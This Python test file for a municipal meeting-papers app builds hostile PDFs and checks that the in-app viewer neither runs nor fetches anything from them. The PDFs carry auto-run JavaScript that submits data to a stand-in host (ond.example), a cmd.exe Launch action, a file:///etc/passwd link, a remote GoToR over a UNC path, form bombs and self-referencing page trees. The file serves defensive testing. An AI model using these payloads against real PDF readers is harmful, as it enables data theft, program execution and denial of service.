"""Papers made to do something, opened in the app as they came: nothing leaves, nothing runs, nothing is fetched.

Given out past the sanitiser, so that it is the reader that has to stand.
"""

from __future__ import annotations

import io
import re
import shutil
import time
from collections.abc import Callable, Iterator

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from playwright.sync_api import expect

from folkevalgt import crypto, database
from folkevalgt.config import Settings
from folkevalgt.files import Files
from folkevalgt.models.document import DocumentVersion
from folkevalgt.models.package import Package
from folkevalgt.pdf import sandbox
from folkevalgt.publishing.publish import publish
from tests.browser.fixtures import Town
from tests.browser.served import Served, aside
from tests.browser.town import on
from tests.papers import bytes_of, item, meeting, paper
from tests.pdf import making
from tests.world import the_world

SCRIPT = "app.alert('kanari'); this.submitForm('https://ond.example/js'); app.launchURL('https://ond.example/', true);"


def script_on_opening(into: Pdf) -> None:
    into.Root.OpenAction = making.action("JavaScript", JS=String(SCRIPT))
    into.Root.AcroForm = Dictionary(Fields=Array(), CO=Array())
    tree = Dictionary(Names=Array([String("a"), into.make_indirect(making.action("JavaScript", JS=String(SCRIPT)))]))
    into.Root.Names = Dictionary(JavaScript=tree)


def wide(kind: str, **more: object) -> Callable[[Pdf], None]:
    """A link over the whole page."""

    def change(into: Pdf) -> None:
        making.link(into, making.action(kind, **more))
        into.pages[0].obj.Annots[-1].Rect = Array([0, 0, 595, 842])

    return change


def form_of_itself() -> bytes:
    into = making.drawing(b"/X Do")
    form = into.make_indirect(Stream(into, b"/X Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 595, 842]))
    form.stream_dict.Resources = Dictionary(XObject=Dictionary(X=form))
    into.pages[0].obj.Resources.XObject = Dictionary(X=form)
    return making.saved(into)


def tree_of_itself() -> bytes:
    """It says that it has a million pages, and its tree of pages goes round in a ring."""
    into = making.drawing(b"0.5 g 90 500 400 200 re f")
    into.Root.Pages.Count = 1_000_000
    into.Root.Pages.Kids.append(into.Root.Pages)
    told = io.BytesIO()
    into.save(told, static_id=True)
    return told.getvalue()


HOSTILE: dict[str, Callable[[], bytes]] = {
    "skript": lambda: making.changed(script_on_opening),
    "program": lambda: making.changed(wide("Launch", F=String("cmd.exe"))),
    "disk": lambda: making.changed(wide("URI", URI=String("file:///etc/passwd"))),
    "adresse": lambda: making.changed(wide("URI", URI=String("javascript:document.body.id='kanari'"))),
    "vedlegg": lambda: making.changed(making.attach),
    "annen": lambda: making.changed(wide("GoToR", F=String("\\\\ond.example\\x.pdf"), D=Array([0, Name.Fit]))),
    "skjema": lambda: making.changed(wide("SubmitForm", F=String("https://ond.example/skjema"))),
    "xfa": lambda: making.changed(making.xfa),
    "side": lambda: making.changed(making.page_opens_address),
    "utenfor": lambda: making.changed(making.external_stream),
    "bombe": lambda: making.form_bomb(12),
    "ring": form_of_itself,
    "tre": tree_of_itself,
}


async def lay(settings: Settings) -> None:
    """A meeting with harmless papers, and behind their names the others as they were made."""
    await database.connect(settings)
    try:
        files = Files(settings.files_url)
        world = await the_world(settings, files, crypto.instance_key(settings))
        items = [item(f"sak-{name}", at, paper(name, f"Papir {name}")) for at, name in enumerate(HOSTILE, 300)]
        told = meeting(*items, date=on(2), id="onde")
        await world.drop(told, bytes_of(told), "onde")
        for name, made in HOSTILE.items():
            data = made()
            given = {"sha256": await files.put(data), "size": len(data), "text_sha256": None, "text_size": 0}
            await DocumentVersion.filter(document__source_id=name).update(**given)
        await publish((await Package.get(meeting__source_id="onde")).id, "cli")
    finally:
        await sandbox.close()
        await database.disconnect()


@pytest.fixture(scope="module")
def served(town: Town, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    home = tmp_path_factory.mktemp("onde") / "home"
    shutil.copytree(town.settings.home, home)
    settings = Settings(home=str(home), municipality=town.settings.municipality, inbox_rest_seconds=0)
    aside(lambda: lay(settings))
    running = town.served_at(home)
    yield running
    running.stop()


def test_a_paper_that_wants_something_is_a_picture_of_itself_and_no_more(tablet):
    went: list[str] = []
    own = re.compile(rf"(?:blob:)?{re.escape(tablet.served.origin)}/|data:")
    tablet.context.on("request", lambda asked: went.append(asked.url) if not own.match(asked.url) else None)
    tablet.context.on("page", lambda page: went.append(f"a window: {page.url}"))
    tablet.page.on("download", lambda got: went.append(f"a download: {got.url}"))
    tablet.page.on("dialog", lambda dialog: (went.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
    tablet.sign_in("medlem_formannskap")
    tablet.meeting("Formannskapet")
    papers = tablet.page.locator("a.row-link").evaluate_all("all => all.map((each) => each.href)")
    assert len(papers) == len(HOSTILE)
    drawn = 0
    for address in papers:
        tablet.goto(address)
        page = tablet.page.get_by_role("region", name=re.compile("^Side 1 av"))
        expect(page.or_(tablet.page.get_by_text("Papiret kan ikke vises")).first).to_be_attached()
        drawn += page.count() > 0
        began = time.monotonic()
        assert tablet.page.evaluate("() => 1 + 1") == 2
        assert time.monotonic() - began < 20  # the app answers, whatever its worker does
        tablet.page.mouse.click(512, 400)
        assert tablet.page.locator("body").get_attribute("id") is None
    tablet.goto("/moter")
    tablet.sees("Møter")
    tablet.complaints = [each for each in tablet.complaints if not re.match(r"Warning: |Error: ", each)]
    assert went == []
    assert drawn >= 10


def test_the_papers_are_what_they_say():
    """The planted twin: each still holds what it was made with, so that it was the reader that stood."""
    for name in ("skript", "program", "disk", "adresse", "vedlegg", "annen", "skjema", "xfa", "side"):
        plain = io.BytesIO()
        pikepdf.open(io.BytesIO(HOSTILE[name]())).save(plain, qdf=True)
        assert re.search(rb"/JS|/Launch|file:|javascript:|/EmbeddedFile|/GoToR|/SubmitForm|/XFA|/AA", plain.getvalue())
